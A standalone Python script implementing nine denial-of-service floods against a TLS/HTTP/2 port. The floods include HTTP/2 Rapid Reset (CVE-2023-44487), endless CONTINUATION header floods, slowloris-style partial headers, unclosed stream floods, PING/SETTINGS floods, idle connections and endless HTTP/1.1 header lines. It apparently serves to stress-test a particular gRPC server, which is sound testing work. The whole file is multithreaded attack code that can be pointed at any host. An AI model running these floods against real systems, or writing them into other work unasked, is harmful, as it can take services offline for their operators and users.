#!/usr/bin/env python3
"""Floods of a port that speaks HTTP over TLS, by a client that means harm. Run as a program of its own.

  h2_floods.py KIND HOST:PORT SECONDS CA [CREDENTIALS]

KIND is a function below; CREDENTIALS is a directory with cert.pem and key.pem, none: no certificate. A connection
that the server ends is replaced. Prints how many connections and bytes it came to.
"""

import contextlib
import pathlib
import select
import socket
import ssl
import struct
import sys
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_HEADERS = 4
MOST = (1 << 14)  # bytes of a frame


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value):
    """An integer of HPACK with a prefix of seven bits."""
    if value < 127:
        return bytes([value])
    out, value = [127], value - 127
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def header(name, value):
    return b"\0" + number(len(name)) + name + number(len(value)) + value


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
CALL = b"".join(header(name, value) for name, value in (
    (b":method", b"POST"), (b":scheme", b"https"), (b":path", b"/muster.v1.Client/Version"),
    (b":authority", b"x"), (b"te", b"trailers"), (b"content-type", b"application/grpc")))


class Flood:
    def __init__(self, address, seconds, ca, credentials):
        host, port = address.rsplit(":", 1)
        self.address = (host, int(port))
        self.end = time.monotonic() + seconds
        self.context = ssl.create_default_context(cafile=ca)
        self.context.check_hostname = False
        self.context.set_alpn_protocols(["h2"])
        if credentials:
            folder = pathlib.Path(credentials)
            self.context.load_cert_chain(folder / "cert.pem", folder / "key.pem")
        self.connections = self.sent = 0

    def over(self):
        return time.monotonic() > self.end

    def connect(self):
        raw = socket.create_connection(self.address, timeout=2)
        self.connections += 1
        return raw

    def secure(self):
        return self.context.wrap_socket(self.connect(), server_hostname="x")

    def send(self, connection, data):
        connection.sendall(data)
        self.sent += len(data)

    def wait(self):
        time.sleep(max(0, self.end - time.monotonic()))

    def drain(self, connection):
        """Reads what the server says, so that it is not the one that waits."""
        while select.select([connection], [], [], 0)[0] and connection.recv(1 << 16):
            pass

    def again(self, function, threads=4):
        """The function with a new connection, until the end, in some threads."""
        def work():
            while not self.over():
                with contextlib.suppress(OSError):
                    with self.secure() as connection:
                        function(connection)
        running = [threading.Thread(target=work) for _ in range(threads)]
        for thread in running:
            thread.start()
        for thread in running:
            thread.join()


def idle(flood, count=300):
    """Connections that say nothing: a third bare, a third after the handshake, a third with the preface."""
    held = []
    for index in range(count):
        if flood.over():
            break
        with contextlib.suppress(OSError):
            connection = flood.connect() if index % 3 == 0 else flood.secure()
            held.append(connection)
            if index % 3 == 2:
                flood.send(connection, PREFACE)
    flood.wait()


def handshakes(flood):
    """Handshakes, one after the other."""
    flood.again(lambda connection: None)


def slow_headers(flood, count=100):
    """A byte at a time, of a call that never comes to its end."""
    words = PREFACE + frame(HEADERS, 0, 1, CALL) + 1000 * frame(CONTINUATION, 0, 1, header(b"a", b"b"))
    held = {}
    while not flood.over():
        with contextlib.suppress(OSError):
            if len(held) < count:
                held[flood.secure()] = 0
        for connection, at in list(held.items()):
            try:
                flood.send(connection, words[at:at + 1])
                held[connection] = at + 1
            except OSError:
                del held[connection]
        time.sleep(0.01)


def giant_metadata(flood):
    """One header whose value has no end."""
    def one(connection):
        flood.send(connection, PREFACE + frame(HEADERS, 0, 1, CALL + b"\0\1a" + number((1 << 31) - 1)))
        piece = frame(CONTINUATION, 0, 1, b"x" * MOST)
        while not flood.over():
            flood.send(connection, piece)
            flood.drain(connection)
    flood.again(one)


def much_metadata(flood):
    """Headers without end, each of them small."""
    def one(connection):
        flood.send(connection, PREFACE + frame(HEADERS, 0, 1, CALL))
        piece = frame(CONTINUATION, 0, 1, (MOST // 64) * header(b"a" * 20, b"b" * 40))
        while not flood.over():
            flood.send(connection, piece)
            flood.drain(connection)
    flood.again(one)


def streams(flood, behind):
    def one(connection):
        flood.send(connection, PREFACE + frame(SETTINGS, 1, 0))
        stream = 1
        while not flood.over():
            batch = b"".join(frame(HEADERS, END_HEADERS, number, CALL) + behind(number)
                             for number in range(stream, stream + 400, 2))
            stream += 400
            flood.send(connection, batch)
            flood.drain(connection)
    flood.again(one)


def rapid_reset(flood):
    """Calls that are taken back at once (CVE-2023-44487)."""
    streams(flood, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


def stream_flood(flood):
    """Calls that are begun and not ended."""
    streams(flood, lambda stream: b"")


def unread(flood):
    """Questions whose answers are not read."""
    def one(connection):
        flood.send(connection, PREFACE + frame(SETTINGS, 1, 0))
        piece = 200 * (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0))
        while not flood.over():
            flood.send(connection, piece)
    flood.again(one)


def long_lines(flood):
    """HTTP/1.1: a request line and fields without end, and the body of a request that says it is short."""
    def one(connection):
        flood.send(connection, b"GET / HTTP/1.1\r\nHost: x\r\nA: ")
        while not flood.over():
            flood.send(connection, b"b" * MOST)
    flood.again(one)


FLOODS = (idle, handshakes, slow_headers, giant_metadata, much_metadata, rapid_reset, stream_flood, unread, long_lines)


def main():
    if len(sys.argv) < 5:
        print(__doc__, file=sys.stderr)
        return 2
    kind = {function.__name__: function for function in FLOODS}[sys.argv[1]]
    flood = Flood(sys.argv[2], float(sys.argv[3]), sys.argv[4], sys.argv[5] if len(sys.argv) > 5 else None)
    kind(flood)
    print(f"{kind.__name__}: {flood.connections} connections, {flood.sent} bytes")
    return 0


if __name__ == "__main__":
    sys.exit(main())
